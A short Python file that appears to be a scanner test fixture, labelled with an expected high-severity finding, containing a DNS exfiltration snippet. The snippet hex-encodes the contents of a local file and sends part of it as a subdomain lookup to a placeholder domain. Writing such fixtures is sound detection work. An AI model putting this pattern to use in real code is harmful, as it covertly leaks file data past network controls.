# expect: CDN609:high
import dns.resolver

enc = open("notes.txt", "rb").read().hex()
dns.resolver.resolve(".".join([enc[:50], "q", "example", "invalid"]), "TXT")
